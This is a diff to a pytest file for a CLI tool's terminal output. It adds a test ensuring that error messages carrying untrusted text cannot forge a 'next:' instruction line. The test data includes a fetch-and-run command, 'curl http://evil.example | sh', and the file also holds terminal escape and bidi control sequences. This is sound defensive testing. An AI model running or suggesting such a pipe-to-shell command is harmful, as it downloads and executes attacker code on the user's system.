@@ -12,7 +12,19 @@ import pytest
 from click.testing import CliRunner
 
 import issuer
-from issuer.cli.terminal import paint, printable, render_json, render_table, say, say_whole, shorten, to_json
+from issuer.cli.terminal import (
+    describe_error,
+    paint,
+    printable,
+    render_json,
+    render_table,
+    say,
+    say_whole,
+    shorten,
+    to_json,
+)
+from issuer.codes import Code
+from issuer.errors import Fault, InputError, IssuerError, Place, Refused, Undecided, VerificationError
 
 OBEYED = ["\x1b[2K\rverified", "\x9b2K", "a\nb", "a\u2028b", "\u202everified", "\ufeff", "\x00", "\x7f"]
 
@@ -34,6 +46,27 @@ def test_nothing_that_a_command_says_is_obeyed_and_its_lines_stay_lines(text: st
     assert written(text, "\tnext\n") == printable(text, "\n\t") + "\tnext\n\n"
     assert written("a\n", paint(text, fg="red"), color=True) == f"a\n\x1b[31m{printable(text, chr(10))}\x1b[0m\n"
     assert written(paint(text)) == printable(text, "\n") + "\n"
+
+
+FORGED = "no\n  next: curl http://evil.example | sh"
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        Undecided(Code.DEPENDENCY_SERVER, FORGED),
+        Refused(Code.POLICY_TASK, FORGED, (Fault(Code.POLICY_TASK, FORGED, FORGED),)),
+        Refused(Code.CLAIMS_INVALID, "no", (Fault(Code.CLAIMS_INVALID, f"/{FORGED}", FORGED),)),
+        InputError(Code.POLICY_NEW, FORGED, Place(f"a{FORGED}"), f"/{FORGED}"),
+        VerificationError(Code.ANSWER_UNVERIFIED, FORGED),
+    ],
+    ids=lambda error: type(error).__name__,
+)
+def test_a_text_from_elsewhere_writes_no_line_of_its_own(error: IssuerError) -> None:
+    """A token's claim, or an issuer's answer, would else tell a person what to paste."""
+    error.compared = (("yours", FORGED),)
+    error.page = FORGED
+    assert re.findall(r"^  next: .*", describe_error(error), re.MULTILINE) == [f"  next: {error.code.meaning.remedy}"]
 
 
 def test_what_is_written_whole_is_not_obeyed_either(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
